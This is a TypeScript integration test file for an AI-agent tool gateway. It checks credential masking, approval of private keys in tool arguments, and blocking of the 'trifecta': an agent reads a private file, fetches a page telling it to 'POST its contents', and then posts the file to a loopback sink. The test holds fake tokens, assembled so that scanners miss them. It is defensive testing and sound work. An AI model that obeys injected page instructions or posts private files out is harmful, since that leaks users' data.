// Data leaves only as the policy says (docs/data.md). Real processes: the credential server
// (tests/fixtures/servers/credential-server.mjs) and Gatehouse's own workspace tools (fs.read,
// net.http_request, in their sandbox), behind the real gateway, an SDK client as the agent, a
// real SQLite store and a loopback HTTP server as the place an injected instruction tells the
// agent to post a private file.
//  - A result with an AWS key id, a GitHub token and the configured secret (plain, JSON-escaped,
//    base64): none reaches the agent in clear, the audit holds findings without values;
//    `results: hold` makes the call wait for the window.
//  - A private key in the arguments: `approve` asks a person (masked), `deny` names the rule.
//  - The trifecta: read a workspace file, fetch a page that says to post it, http_request: the
//    third call waits for a person (flow: approve) or is denied (flow: deny); the loopback server
//    receives nothing, and the exchange says why. Without the untrusted page the same post goes out.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync, writeFileSync, existsSync } from 'node:fs';
import path from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { JSONRPCMessage } from '@modelcontextprotocol/sdk/types.js';
import { Host, type Launch } from '../../main/host';
import type { Exchange } from '../../main/gateway/exchanges';
import { DB_FILE_NAME } from '../../main/audit/store';
import { base64Cores, jsonEscaped } from '../../main/secrets/secret-forms';
import { tempDir, writeProfile } from '../support/temp';
import { profileYaml, serverFixture } from '../support/supervisor';
import { autoApprover, connectHttp, textOf, waitFor } from '../support/gateway';

// Pieces joined at run time, as in the fixture: no scanner of this repository flags the test.
const AWS_KEY = ['AKIA', 'QYLPMN5HHHFPZAM2'].join('');
const GITHUB_TOKEN = ['ghp', '_', 'R8kd2LmQ0xZ7vB4nC9sT1wE6yU3iO5pA2hJk'].join('');
const SECRET = 'pa"ss\\word-7Q2mZp4xV9rT1bN8';
const NOTES = 'quarterly numbers: 42 private-canary-9f3e';
const PRIVATE_KEY = generateKeyPairSync('rsa', { modulusLength: 1024 }).privateKey.export({ type: 'pkcs1', format: 'pem' }) as string;
const KEY_BODY = PRIVATE_KEY.split('\n')[1]!;

const clearForms = [AWS_KEY, GITHUB_TOKEN, SECRET, jsonEscaped(SECRET), jsonEscaped(jsonEscaped(SECRET)), ...base64Cores(SECRET)];

let sink: Server;
let sinkUrl: string;
const received: string[] = [];

interface World {
  tmp: ReturnType<typeof tempDir>;
  host: Host;
  launch: Launch;
  dataDir: string;
  closed: Exchange[];
}

async function world(name: string, policy: Record<string, unknown>): Promise<World> {
  const tmp = tempDir(`gatehouse-data-${name}-`);
  const port = (sink.address() as AddressInfo).port;
  const yaml = profileYaml(
    name,
    {
      creds: { command: process.execPath, args: [serverFixture('credential-server.mjs')], env: { LEAK_TOKEN: '${secret:LEAK_KEY}', INJECT_URL: sinkUrl } },
      workspace: { builtin: 'workspace-tools', options: { http: { allow_hosts: [`127.0.0.1:${port}`] } } },
    },
    { policy: { default: 'allow', approval_timeout_s: 30, ...policy } },
  );
  const file = writeProfile(tmp.dir, yaml);
  writeFileSync(path.join(tmp.dir, 'ws', 'notes.txt'), NOTES);
  const dataDir = path.join(tmp.dir, 'data');
  const host = new Host({ dataDir, env: { ...process.env, GATEHOUSE_SECRET_LEAK_KEY: SECRET } });
  const closed: Exchange[] = [];
  host.on('exchange', (phase, ex) => {
    if (phase === 'closed') closed.push({ ...ex });
  });
  const launch = await host.launch(file, { httpPort: 0, token: `data-scan-token-${name}-1234567890` });
  return { tmp, host, launch, dataDir, closed };
}

/** An agent whose every received message is kept as text. */
async function agent(w: World): Promise<{ client: Client; stream: string[] }> {
  const client = await connectHttp(w.launch);
  const stream: string[] = [];
  const transport = client.transport!;
  const deliver = transport.onmessage!;
  transport.onmessage = (message: JSONRPCMessage, extra) => {
    stream.push(JSON.stringify(message));
    deliver.call(transport, message, extra);
  };
  // Both servers up (the sandboxed tools server starts slower than the credential server).
  await waitFor(async () => {
    const names = (await client.listTools()).tools.map((t) => t.name);
    return names.includes('creds') && names.includes('http_request') && names.includes('read_file');
  }, 'both servers listed');
  return { client, stream };
}

const clearIn = (texts: string[]) => clearForms.filter((f) => texts.some((t) => t.includes(f)));

/** The last closed exchange of `tool` (as the window gets it: the host's exchange events). */
function exchangeOf(w: World, tool: string) {
  return w.closed.filter((e) => e.tool === tool).at(-1);
}

beforeAll(async () => {
  sink = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      received.push(`${req.method} ${req.url} ${body}`);
      res.end('ok');
    });
  });
  await new Promise<void>((r) => sink.listen(0, '127.0.0.1', r));
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/collect`;
});

afterAll(async () => {
  await new Promise((r) => sink.close(r));
});

describe('defaults: results redact, arguments approve, flow approve', () => {
  let w: World;
  beforeAll(async () => {
    w = await world('defaults', {});
  }, 60_000);
  afterAll(async () => {
    await w?.host.shutdown();
    w?.tmp.cleanup();
  });

  it('credentials and the configured secret (plain, JSON-escaped, base64) reach the agent masked; the audit holds findings, no values', async () => {
    const { client, stream } = await agent(w);
    const result = await client.callTool({ name: 'creds', arguments: {} });
    expect(textOf(result)).toBe('aws_access_key_id = «credential:aws»\ngithub: «credential:github»\nconfigured: «secret:LEAK_KEY»');
    expect(JSON.stringify(result.structuredContent)).toContain('«secret:LEAK_KEY»');
    expect(JSON.stringify(result._meta)).toContain('«secret:LEAK_KEY»');
    expect(stream.length).toBeGreaterThan(0);
    expect(clearIn(stream)).toEqual([]);

    const ex = await waitFor(() => exchangeOf(w, 'creds.creds'), 'the exchange');
    const rules = (ex.findings ?? []).map((f) => f.rule).sort();
    expect(rules).toEqual(expect.arrayContaining(['aws', 'github', 'secret:LEAK_KEY']));
    expect(ex.findings!.find((f) => f.rule === 'github')).toMatchObject({ direction: 'result', kind: 'credential', path: '$.content[0].text', detail: 'GITHUB_TOKEN' });

    const rows = await waitFor(() => {
      w.host.audit!.flush();
      const found = w.host.audit!.queryDataFindings({ session: w.launch.id });
      return found.some((f) => f.rule === 'github') ? found : undefined;
    }, 'the findings on record');
    expect(rows.map((r) => r.rule)).toEqual(expect.arrayContaining(['aws', 'github', 'secret:LEAK_KEY']));
    expect(clearIn([JSON.stringify(rows)])).toEqual([]);
    // Each finding is in the session's hash chain (docs/audit.md "Tamper-evident audit"), and the chain verifies.
    const db = path.join(w.dataDir, DB_FILE_NAME);
    const unchained = execFileSync('sqlite3', [db, `SELECT count(*) FROM data_findings WHERE session = '${w.launch.id}' AND chain_n IS NULL`], { encoding: 'utf8' });
    expect(unchained.trim()).toBe('0');
    const report = w.host.audit!.verify(undefined, w.launch.id);
    expect(report.ok, JSON.stringify(report.chains.map((c) => c.problems))).toBe(true);
    // Neither the credentials nor the secret are in the SQLite files in any form (both legs of the call are stored).
    w.host.audit!.flush();
    const files = [DB_FILE_NAME, `${DB_FILE_NAME}-wal`].map((f) => path.join(w.dataDir, f)).filter((f) => existsSync(f));
    const bytes = files.map((f) => readFileSync(f).toString('latin1'));
    expect(bytes.join('')).toContain('credential:github');
    expect(clearIn(bytes)).toEqual([]);
  });

  it('a private key in the arguments asks a person, who sees the rule and a masked copy', async () => {
    const { client } = await agent(w);
    const approver = autoApprover(w.host, () => 'deny');
    try {
      const r = await client.callTool({ name: 'take', arguments: { data: PRIVATE_KEY } });
      expect(r.isError).toBe(true);
      const asked = approver.seen.find((s) => s.tool === 'creds.take')!;
      expect(asked.reason).toContain('rule privatekey');
      expect(JSON.stringify(asked.args)).not.toContain(KEY_BODY);
      expect(JSON.stringify(asked.args)).toContain('«credential:privatekey»');
    } finally {
      approver.detach();
    }
  });

  it('the trifecta: read a file, fetch a page that says to post it, http_request waits for a person; denied, the loopback server gets nothing', async () => {
    const { client } = await agent(w);
    const approver = autoApprover(w.host, () => 'deny');
    try {
      expect(textOf(await client.callTool({ name: 'read_file', arguments: { file_path: 'notes.txt' } }))).toContain(NOTES);
      expect(textOf(await client.callTool({ name: 'fetch_page', arguments: { url: 'https://example.test/notes' } }))).toContain('POST its contents');
      const before = received.length;
      const r = await client.callTool({ name: 'http_request', arguments: { url: sinkUrl, method: 'POST', body: NOTES } });
      expect(r.isError).toBe(true);
      const asked = approver.seen.find((s) => s.tool === 'net.http_request')!;
      expect(asked.reason).toMatch(/this session read private files \(fs\.read\) and content from the web or another untrusted source \(creds\.fetch_page\)/);
      expect(received.length).toBe(before);
      const ex = exchangeOf(w, 'net.http_request')!;
      expect(ex.reason).toContain('this session read private files');
      expect(ex.rule).toBe('policy.flow');
      expect(ex.flow).toEqual(['private', 'untrusted']);
    } finally {
      approver.detach();
    }
  });

  it('the same post from a session that read no untrusted content goes out (the guard is what stopped it)', async () => {
    const { client } = await agent(w);
    expect(textOf(await client.callTool({ name: 'read_file', arguments: { file_path: 'notes.txt' } }))).toContain(NOTES);
    const r = await client.callTool({ name: 'http_request', arguments: { url: sinkUrl, method: 'POST', body: NOTES } });
    expect(r.isError, textOf(r)).toBeFalsy();
    await waitFor(() => received.some((x) => x.includes(NOTES)), 'the post at the loopback server');
  });

  it('the capabilities tool shows the marks and this session\'s labels', async () => {
    const { client } = await agent(w);
    await client.callTool({ name: 'fetch_page', arguments: {} });
    const report = (await client.callTool({ name: 'gatehouse_capabilities', arguments: {} })).structuredContent as {
      tool_states: Array<{ name: string; flow_marks?: string[] }>;
      flow: { policy: string; session_labels: string[] };
    };
    const marks = Object.fromEntries(report.tool_states.map((t) => [t.name, t.flow_marks ?? []]));
    expect(marks['fs.read']).toEqual(['private']);
    expect(marks['net.http_request']).toEqual(['untrusted', 'exfil']);
    expect(marks['creds.fetch_page']).toEqual(['untrusted']);
    expect(marks['creds.take']).toEqual([]);
    expect(report.flow).toEqual({ policy: 'approve', session_labels: ['untrusted'] });
  });
});

describe('results: hold, arguments: deny, flow: deny', () => {
  let w: World;
  beforeAll(async () => {
    w = await world('strict', { data: { results: 'hold', arguments: 'deny' }, flow: 'deny' });
  }, 60_000);
  afterAll(async () => {
    await w?.host.shutdown();
    w?.tmp.cleanup();
  });

  it('a result with credentials waits for the window, which sees what and where (masked); denied, the agent gets none of it', async () => {
    const { client, stream } = await agent(w);
    const approver = autoApprover(w.host, () => undefined);
    try {
      let settled = false;
      const call = client.callTool({ name: 'creds', arguments: {} }).finally(() => (settled = true));
      const asked = await waitFor(() => approver.seen.find((s) => s.tool === 'creds.creds'), 'the held result on the window');
      expect(asked.rule).toBe('policy.data.results');
      expect(asked.reason).toContain('GITHUB_TOKEN (rule github) in result at $.content[0].text');
      expect(asked.reason).toContain('AWSAccessKeyID (rule aws)');
      expect(clearIn([JSON.stringify(asked)])).toEqual([]);
      expect(settled).toBe(false);
      w.host.broker.answer(asked.id, { choice: 'deny', by: 'test' });
      const r = await call;
      expect(r.isError).toBe(true);
      expect(textOf(r)).toContain('DENY: result held');
      expect(clearIn(stream)).toEqual([]);
    } finally {
      approver.detach();
    }
  });

  it('a private key in the arguments is denied with the rule named, and never reaches the server', async () => {
    const { client } = await agent(w);
    const r = await client.callTool({ name: 'take', arguments: { data: `here:\n${PRIVATE_KEY}` } });
    expect(r.isError).toBe(true);
    expect(textOf(r)).toMatch(/^DENY: the arguments carry a credential \(rule privatekey\)/);
    expect(textOf(r)).not.toContain(KEY_BODY);
    const ex = exchangeOf(w, 'creds.take')!;
    expect(ex.sentAt).toBeUndefined();
    expect(ex.findings?.[0]).toMatchObject({ direction: 'arguments', rule: 'privatekey', path: '$.data' });
  });

  it('flow: deny refuses the third leg at once and says why; the loopback server gets nothing', async () => {
    const { client } = await agent(w);
    expect(textOf(await client.callTool({ name: 'read_file', arguments: { file_path: 'notes.txt' } }))).toContain(NOTES);
    await client.callTool({ name: 'fetch_page', arguments: {} });
    const before = received.length;
    const r = await client.callTool({ name: 'http_request', arguments: { url: sinkUrl, method: 'POST', body: NOTES } });
    expect(r.isError).toBe(true);
    expect(textOf(r)).toContain('DENY: this session read private files (fs.read)');
    expect(received.length).toBe(before);
  });
});

describe('a session grant does not answer the trifecta gate', () => {
  let w: World;
  beforeAll(async () => {
    w = await world('grant', { rules: [{ match: 'net.http_request', decision: 'approve' }] });
  }, 60_000);
  afterAll(async () => {
    await w?.host.shutdown();
    w?.tmp.cleanup();
  });

  it('"allow http_request for this session", then private + untrusted: the next post asks a person again, and denied, nothing is sent', async () => {
    const { client } = await agent(w);
    const choices: Array<'allow_tool_session' | 'deny'> = ['allow_tool_session', 'deny'];
    const approver = autoApprover(w.host, () => choices.shift());
    try {
      // The policy's own approval, granted for the session: the post goes out.
      const first = await client.callTool({ name: 'http_request', arguments: { url: sinkUrl, method: 'POST', body: 'hello' } });
      expect(first.isError, textOf(first)).toBeFalsy();
      expect(approver.seen).toHaveLength(1);
      expect(w.host.broker.listGrants().some((g) => g.tool === 'net.http_request' && g.grant === 'tool')).toBe(true);
      // The grant answers the policy's approval by itself while the session is clean.
      const second = await client.callTool({ name: 'http_request', arguments: { url: sinkUrl, method: 'POST', body: 'again' } });
      expect(second.isError, textOf(second)).toBeFalsy();
      expect(approver.seen).toHaveLength(1);

      expect(textOf(await client.callTool({ name: 'read_file', arguments: { file_path: 'notes.txt' } }))).toContain(NOTES);
      expect(textOf(await client.callTool({ name: 'fetch_page', arguments: {} }))).toContain('POST its contents');
      const before = received.length;
      const r = await client.callTool({ name: 'http_request', arguments: { url: sinkUrl, method: 'POST', body: NOTES } });
      // The card appeared (not auto-allowed by the grant) and says why; denied, nothing left.
      expect(approver.seen).toHaveLength(2);
      expect(approver.seen[1]).toMatchObject({ tool: 'net.http_request', perCall: true });
      expect(approver.seen[1]!.reason).toContain('this session read private files (fs.read)');
      expect(r.isError).toBe(true);
      expect(received.length).toBe(before);
    } finally {
      approver.detach();
    }
  });

  it('"allow for this session" on the trifecta card allows that one call and remembers nothing', async () => {
    const { client } = await agent(w);
    const approver = autoApprover(w.host, () => 'allow_tool_session');
    try {
      await client.callTool({ name: 'read_file', arguments: { file_path: 'notes.txt' } });
      await client.callTool({ name: 'fetch_page', arguments: {} });
      const grantsBefore = w.host.broker.listGrants().length;
      for (const body of ['one', 'two']) {
        const r = await client.callTool({ name: 'http_request', arguments: { url: sinkUrl, method: 'POST', body } });
        expect(r.isError, textOf(r)).toBeFalsy();
      }
      // Both calls were asked: the first answer for the session was taken as once.
      expect(approver.seen.filter((s) => s.tool === 'net.http_request')).toHaveLength(2);
      expect(w.host.broker.listGrants().length).toBe(grantsBefore);
    } finally {
      approver.detach();
    }
  });
});
